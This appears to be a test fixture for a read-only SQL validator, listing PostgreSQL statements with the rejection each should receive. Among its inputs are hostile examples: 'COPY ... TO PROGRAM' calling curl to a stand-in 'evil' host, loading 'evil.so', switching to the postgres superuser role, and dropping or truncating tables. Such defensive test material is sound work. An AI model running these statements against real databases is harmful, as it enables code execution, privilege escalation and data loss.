-- case: insert
-- expect: write_statement
INSERT INTO orders (id) VALUES (1)
-- case: update
-- expect: write_statement
UPDATE orders SET amount = 0
-- case: delete
-- expect: write_statement
DELETE FROM orders
-- case: merge
-- expect: write_statement
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
-- case: truncate
-- expect: write_statement
TRUNCATE orders
-- case: drop table
-- expect: write_statement
DROP TABLE orders
-- case: create table as
-- expect: write_statement
CREATE TABLE x AS SELECT 1
-- case: alter
-- expect: write_statement
ALTER TABLE orders ADD COLUMN x int
-- case: grant
-- expect: write_statement
GRANT SELECT ON orders TO public
-- case: create function
-- expect: write_statement
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
-- case: begin
-- expect: statement_not_allowed
BEGIN
-- case: commit
-- expect: statement_not_allowed
COMMIT
-- case: set
-- expect: statement_not_allowed
SET statement_timeout = 0
-- case: set local
-- expect: statement_not_allowed
SET LOCAL search_path = evil, pg_catalog
-- case: reset
-- expect: statement_not_allowed
RESET ALL
-- case: set role
-- expect: statement_not_allowed
SET ROLE postgres
-- case: set session authorization
-- expect: statement_not_allowed
SET SESSION AUTHORIZATION postgres
-- case: show
-- expect: statement_not_allowed
SHOW password_encryption
-- case: discard
-- expect: statement_not_allowed
DISCARD ALL
-- case: copy to program
-- expect: statement_not_allowed
COPY orders TO PROGRAM 'curl evil'
-- case: copy query to stdout
-- expect: statement_not_allowed
COPY (SELECT * FROM orders) TO STDOUT
-- case: do
-- expect: statement_not_allowed
DO $$ BEGIN PERFORM pg_sleep(1); END $$
-- case: prepare
-- expect: statement_not_allowed
PREPARE p AS SELECT 1
-- case: execute
-- expect: statement_not_allowed
EXECUTE p
-- case: deallocate
-- expect: statement_not_allowed
DEALLOCATE ALL
-- case: call
-- expect: statement_not_allowed
CALL do_things()
-- case: listen
-- expect: statement_not_allowed
LISTEN chan
-- case: notify
-- expect: statement_not_allowed
NOTIFY chan, 'x'
-- case: unlisten
-- expect: statement_not_allowed
UNLISTEN *
-- case: vacuum
-- expect: statement_not_allowed
VACUUM FULL orders
-- case: analyze
-- expect: statement_not_allowed
ANALYZE orders
-- case: cluster
-- expect: statement_not_allowed
CLUSTER orders
-- case: reindex
-- expect: statement_not_allowed
REINDEX TABLE orders
-- case: checkpoint
-- expect: statement_not_allowed
CHECKPOINT
-- case: load
-- expect: statement_not_allowed
LOAD 'evil.so'
-- case: refresh materialized view
-- expect: statement_not_allowed
REFRESH MATERIALIZED VIEW mv
-- case: lock table
-- expect: statement_not_allowed
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
-- case: declare cursor
-- expect: statement_not_allowed
DECLARE c CURSOR FOR SELECT 1
-- case: alter system
-- expect: statement_not_allowed
ALTER SYSTEM SET fsync = off
-- case: explain of a write
-- expect: write_statement
EXPLAIN DELETE FROM orders
-- case: explain analyze
-- expect: explain_analyze
EXPLAIN ANALYZE SELECT * FROM orders
-- case: explain analyze option
-- expect: explain_analyze
EXPLAIN (ANALYZE) SELECT 1
-- case: explain analyze true with format
-- expect: explain_analyze
EXPLAIN (FORMAT JSON, ANALYZE true) SELECT 1
-- case: explain analyse spelling
-- expect: explain_analyze
EXPLAIN (ANALYSE on) SELECT 1
-- case: explain execute
-- expect: statement_not_allowed
EXPLAIN EXECUTE p
-- case: empty
-- expect: multiple_statements
-- only a comment
-- case: garbage
-- expect: parse_error
SELEC 1
-- case: unterminated string
-- expect: parse_error
SELECT 'abc
-- case: sqlglot cannot read all of it
-- expect: parse_error
SELECT xmlserialize(content x as text)
